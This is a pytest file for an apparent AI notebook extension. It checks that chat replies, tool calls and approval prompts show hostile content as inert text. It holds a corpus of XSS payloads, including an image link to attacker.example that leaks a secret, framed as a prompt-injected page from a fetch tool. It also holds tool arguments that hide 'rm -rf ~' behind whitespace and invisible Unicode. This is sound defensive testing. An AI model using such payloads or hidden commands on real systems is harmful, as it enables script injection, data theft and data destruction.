"""Model and tool output is hostile: every place it is shown gets a corpus of attacks over real
HTTP (the local server's scripted replies) and must show them as text, never as live HTML."""

from __future__ import annotations

import builtins
import re
from html.parser import HTMLParser

import pytest
from IPython.utils.capture import capture_output

from aihub_nb import magics
from aihub_nb.agents import input_approver
from aihub_nb.testing import ScriptedReply
from aihub_nb.views import markdown_html, visible

HOSTILE = [
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=\"document.title='pwned'\"></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
    "<a href='javascript:alert(1)'>click</a>",
    '<a href=" javascript:alert(1)">spaced</a>',
    "<a href='JaVaScRiPt:alert(1)'>cased</a>",
    "<a href='jav&#x09;ascript:alert(1)'>tab entity</a>",
    '<a href="&#106;avascript:alert(1)">decimal entity</a>',
    "[md link](javascript:alert(1))",
    "[md cased](JAVASCRIPT:alert(1))",
    "[md entity](jav&#x09;ascript:alert(1))",
    "[md angle](<javascript:alert(1)>)",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    "[relative](/api/contents?x=1)",
    "![pixel](https://attacker.example/leak?secret=42)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![q](x" onerror="alert(1))',
    "<div style=\"width:expression(alert(1))\">styled</div>",
    "<p style='background:url(javascript:alert(1))'>bg</p>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>go</button></form>",
    "<details open ontoggle=alert(1)>toggle</details>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=javascript:/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "**bold <img src=x onerror=alert(1)>** and `<script>` and [fine](https://example.com)",
    "<img src=x onerror=alert(1)",  # unclosed, at the very end
]
CORPUS = "\n\n".join(HOSTILE)

_SAFE_SCHEMES = ("http", "https", "mailto")
_URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset", "cite"}
_BAD_TAGS = {"script", "iframe", "frame", "svg", "math", "object", "embed", "img", "form", "button", "input",
             "base", "meta", "link", "audio", "video", "source", "textarea", "select", "template"}


class _Audit(HTMLParser):
    """Everything in an HTML text that could run or load something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag, attrs):
        if tag in _BAD_TAGS:
            self.problems.append(f"<{tag}>")
        self.in_style = tag == "style"
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name == "srcdoc":
                self.problems.append(f"{tag} {name}=")
            if name in _URL_ATTRS:
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                if not squeezed.startswith(tuple(f"{s}:" for s in _SAFE_SCHEMES)):
                    self.problems.append(f"{tag} {name}={value!r}")
            if name == "style" and re.search(r"expression|url\(|javascript|behavior", value, re.I):
                self.problems.append(f"{tag} style={value!r}")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self.in_style = False

    def handle_data(self, data):
        if self.in_style and re.search(r"expression|url\(|javascript|@import|alert", data, re.I):
            self.problems.append(f"<style>{data[:60]}")


def problems(markup: str) -> list[str]:
    audit = _Audit()
    audit.feed(markup)
    audit.close()
    return audit.problems


def assert_safe_bundle(bundle: dict[str, str]) -> None:
    """A display's mime bundle: sanitised HTML and plain text, no Markdown, nothing that runs."""
    assert "text/markdown" not in bundle, bundle.get("text/markdown", "")[:200]
    assert set(bundle) <= {"text/html", "text/plain"}, sorted(bundle)
    assert "text/plain" in bundle
    assert problems(bundle.get("text/html", "")) == []


def assert_shown_as_text(markup: str) -> None:
    """The attacks are there for the user to read, as text."""
    assert "&lt;script&gt;document.title=" in markup
    assert "&lt;img src=x onerror=" in markup
    assert '<a href="https://example.com"' in markup  # a plain https link still works
    assert "[image: pixel]" in markup and 'href="https://attacker.example/leak?secret=42"' in markup  # a link, not loaded


# ---------------------------------------------------------------- the renderer alone


@pytest.mark.parametrize("payload", HOSTILE)
def test_each_attack_renders_inert(payload):
    assert problems(markdown_html(payload)) == []


def test_the_audit_catches_live_html():  # the checker itself can fail
    assert problems('<img src=x onerror="x()"><a href=" jav&#x09;ascript:x">y</a><a href="/rel">r</a>') == [
        "<img>", "img src='x'", "img onerror=", "a href=' jav\\tascript:x'", "a href='/rel'",
    ]
    assert problems(CORPUS) != []


# ---------------------------------------------------------------- magics in a real shell


@pytest.fixture
def nb(ip, hub, server):
    magics.use_hub(hub)
    hub.connect("OPENAI", "local-chat", name="oa", base_url=server.openai_base_url)
    yield ip
    magics.use_hub(None)


def _bundle(ip, obj) -> dict[str, str]:
    """What IPython publishes for `obj` as a cell's result."""
    data, _metadata = ip.display_formatter.format(obj)
    return data


def _chunks(text: str, size: int = 7) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def test_streamed_chat_cell_shows_a_hostile_reply_as_text(nb, server):
    server.script(ScriptedReply(chunks=_chunks(CORPUS)))
    with capture_output() as captured:
        nb.run_cell_magic("aihub", "chat evil --model oa", "Summarise this page.")
    assert len(captured.outputs) > 3  # streamed: the first display, its updates, the footer
    for output in captured.outputs:
        assert_safe_bundle(output.data)
    last_reply = [o for o in captured.outputs if "aihub-reply" in o.data["text/html"]][-1]
    assert_shown_as_text(last_reply.data["text/html"])
    assert last_reply.data["text/plain"] == CORPUS


def test_show_chat_render_and_the_stored_snapshot_are_inert(nb, hub, server):
    server.script(ScriptedReply(text=CORPUS))
    with capture_output():
        nb.run_cell_magic("aihub", "chat evil --model oa", "<img src=x onerror=alert('user')>")
    shown = _bundle(nb, nb.run_line_magic("aihub", "chat evil"))
    assert_safe_bundle(shown)
    assert_shown_as_text(shown["text/html"])
    assert "&lt;img src=x onerror=alert('user')&gt;" in shown["text/html"]  # the user's own text too

    rendered = _bundle(nb, nb.run_line_magic("aihub", "render evil"))
    assert_safe_bundle(rendered)
    assert_shown_as_text(rendered["text/html"])
    (snapshot,) = hub.store.find("RenderedConversationThread")
    assert [m["content"] for m in snapshot["messages"]] == ["<img src=x onerror=alert('user')>", CORPUS]
    for message in snapshot["messages"]:
        assert problems(message["html"]) == []


def test_reply_and_chat_reprs_are_inert(nb, hub, server):
    server.script(ScriptedReply(text=CORPUS))
    chat = hub.chat("repr", model="oa")
    reply = chat.send("go")
    for obj in (reply, chat):
        bundle = _bundle(nb, obj)
        assert_safe_bundle(bundle)
        assert_shown_as_text(bundle["text/html"])
    assert _bundle(nb, reply)["text/plain"] == CORPUS


# ---------------------------------------------------------------- tool calls: names, arguments, results


def _hostile_agent(hub, server):
    @hub.tool
    def fetch(url: str) -> str:
        """Fetch a page."""
        return CORPUS  # a prompt-injected page

    hub.agent("browser", model="oa", tools=["fetch"])
    server.script(
        ScriptedReply(tool_calls=[
            {"name": "fetch", "arguments": {"url": "javascript:alert(1)<script>alert(2)</script><img src=x onerror=alert(3)>"}},
            {"name": "<img src=x onerror=alert(4)>", "arguments": {"x": "<svg onload=alert(5)>"}},
        ]),
        ScriptedReply(text=CORPUS),
    )


def _assert_tool_blocks(markup: str) -> None:
    assert problems(markup) == []
    assert markup.count("<details") >= 2
    assert "fetch(" in markup and "&lt;script&gt;alert(2)&lt;/script&gt;" in markup  # arguments, escaped
    assert "&lt;img src=x onerror=alert(4)&gt;(" in markup  # a made-up tool name, escaped
    assert "&lt;script&gt;document.title=" in markup  # the tool's result, escaped


def test_tool_calls_in_the_cell_are_inert(nb, hub, server):
    _hostile_agent(hub, server)
    with capture_output() as captured:
        nb.run_cell_magic("aihub", "chat agentic --agent browser", "Read the page.")
    for output in captured.outputs:
        assert_safe_bundle(output.data)
    _assert_tool_blocks("".join(o.data["text/html"] for o in captured.outputs))
    shown = _bundle(nb, nb.run_line_magic("aihub", "chat agentic"))
    assert_safe_bundle(shown)
    _assert_tool_blocks(shown["text/html"])
    assert_shown_as_text(shown["text/html"])
    reply_bundle = _bundle(nb, hub.get_chat("agentic"))
    assert_safe_bundle(reply_bundle)


def test_chat_panel_is_inert_while_streaming_and_after(hub, server):
    from aihub_nb.widgets.chat import ChatPanel

    hub.connect("OPENAI", "local-chat", name="oa", base_url=server.openai_base_url)
    _hostile_agent(hub, server)
    panel = ChatPanel(hub, "panel-evil", sync=True)
    panel.connection.value = ("agent", "browser")
    seen: list[str] = []
    panel.conversation.observe(lambda change: seen.append(change["new"]), names="value")
    panel.message.value = "Read the page."
    panel.send_button.click()
    assert panel.error.value == ""
    assert len(seen) > 2
    for markup in seen:
        assert problems(markup) == []
    _assert_tool_blocks(panel.conversation.value)
    assert_shown_as_text(panel.conversation.value)
    assert problems(panel.status.value) == []


# ---------------------------------------------------------------- a saved and exported notebook


def test_exported_notebook_has_no_live_script_from_a_reply(nb, server):
    nbformat = pytest.importorskip("nbformat")
    nbconvert = pytest.importorskip("nbconvert")

    def export(reply_text: str) -> str:
        server.script(ScriptedReply(chunks=_chunks(reply_text)))
        with capture_output() as captured:
            nb.run_cell_magic("aihub", "chat saved --model oa", "Hi")
        cell = nbformat.v4.new_code_cell("%%aihub chat saved\nHi")
        cell.outputs = [nbformat.v4.new_output("display_data", data=o.data) for o in captured.outputs]
        notebook = nbformat.v4.new_notebook(cells=[cell])
        nbformat.validate(notebook)
        body, _resources = nbconvert.HTMLExporter().from_notebook_node(notebook)
        return body

    def live(page: str) -> list[str]:  # what runs or loads in the page, less the page's own scripts
        return [p for p in problems(page) if p not in ("<script>",)] + re.findall(r"<script[^>]*>[^<]*(?:alert|pwned)", page)

    baseline = live(export("Hello."))
    page = export(CORPUS)
    assert live(page) == baseline
    assert page.count("<script") == export("Hello.").count("<script")  # the template's own, nothing more
    assert "&lt;script&gt;document.title=" in page


# ---------------------------------------------------------------- approval prompts


SNEAKY = {"path": "/tmp/safe\u202etxt.exe", "note": "ok" + " " * 200 + "\n" * 40 + "rm -rf ~", "z": "a\u200bb\u2066c\x07"}


def test_visible_shows_hidden_characters_and_cuts_long_values():
    shown = visible("x\u202ey\u2066\u200e\u200f\u200b\ufeff\x1b" + " " * 50 + "\n" * 30 + "end")
    assert shown == "x\\u202ey\\u2066\\u200e\\u200f\\u200b\\ufeff\\x1b ⟨50 spaces⟩ \\n×30end"
    assert visible("a" * 1000, 100) == "a" * 100 + "… (900 more characters)"
    assert visible("line one\n  indented\u202e", None, multiline=True) == "line one\n  indented\\u202e"


def test_input_approver_shows_what_the_model_hid(monkeypatch):
    prompts = []
    monkeypatch.setattr(builtins, "input", lambda prompt: prompts.append(prompt) or "n")
    assert input_approver("delete\u202efdp.", SNEAKY) is False
    (prompt,) = prompts
    assert "\\u202e" in prompt and "\\u200b" in prompt and "\\u2066" in prompt and "\\u0007" in prompt
    assert not any(ch in prompt for ch in "\u202e\u200b\u2066\x07\n")
    assert "⟨200 spaces⟩" in prompt and "\\n×40" in prompt and "rm -rf ~" in prompt
    assert len(prompt) < 400


def test_input_approver_cuts_a_huge_argument(monkeypatch):
    prompts = []
    monkeypatch.setattr(builtins, "input", lambda prompt: prompts.append(prompt) or "y")
    assert input_approver("add", {"a": "x" * 5000}) is True
    assert "more characters)" in prompts[0] and len(prompts[0]) < 700


def test_chat_panel_approval_shows_what_the_model_hid(hub, server):
    import threading

    from aihub_nb.widgets.chat import ChatPanel

    hub.connect("OPENAI", "local-chat", name="oa", base_url=server.openai_base_url)

    @hub.tool
    def save(path: str, note: str, z: str) -> str:
        """Save a note."""
        return "saved"

    hub.agent("saver", model="oa", tools=["save"], permission="user-permitted")
    server.script(ScriptedReply(tool_calls=[{"name": "save", "arguments": SNEAKY}]), ScriptedReply(text="Done."))
    panel = ChatPanel(hub, "ask")
    panel.connection.value = ("agent", "saver")
    panel.message.value = "save it"
    shown: list[str] = []
    asked = threading.Event()

    def on_prompt(change):
        if change["new"]:
            shown.append(change["new"])
            asked.set()

    panel.approval_prompt.observe(on_prompt, names="value")
    panel.send_button.click()
    assert asked.wait(10)
    panel.deny_button.click()
    assert panel.wait(10)
    prompt = shown[-1]
    assert problems(prompt) == []
    assert "\\u202e" in prompt and "\\u200b" in prompt and "⟨200 spaces⟩" in prompt
    assert not any(ch in prompt for ch in "\u202e\u200b\u2066\x07\n")


# ---------------------------------------------------------------- what a chat talks to


def test_target_label_names_connections_agents_and_removed_ones():
    from aihub_nb.views import target_label

    assert target_label({"name": "oa", "modelId": "gpt-4o-mini"}) == "oa (gpt-4o-mini)"
    assert target_label({"name": "calc", "chatModelId": "x"}, agent=True) == "agent calc"
    assert target_label(None) == "(removed connection)" and target_label(None, agent=True) == "(removed agent)"


def test_the_cell_and_the_panel_name_a_chats_target_and_its_turn_alike(nb, hub, server):
    import html as html_module

    from aihub_nb.widgets.chat import ChatPanel

    hub.agent("helper", model="oa")
    for flag, name in (("--agent helper", "agentic"), ("--model oa", "plain")):
        server.script(ScriptedReply(text="one", prompt_tokens=5, completion_tokens=2), ScriptedReply(text="two", prompt_tokens=5, completion_tokens=2))
        with capture_output() as captured:
            nb.run_cell_magic("aihub", f"chat {name} {flag}", "hi")
        footer = captured.outputs[-1].data
        panel = ChatPanel(hub, name, sync=True)
        panel.submit("again")
        status = html_module.unescape(re.sub(r"<[^>]+>", "", panel.status.value))
        label = "agent helper" if name == "agentic" else "oa (local-chat)"
        assert footer["text/plain"].split(" · ")[:2] == status.split(" · ")[:2] == [label, "5 → 2 tokens"]
        assert footer["text/html"].split("·")[0] == panel.status.value.split("·")[0]  # the same markup
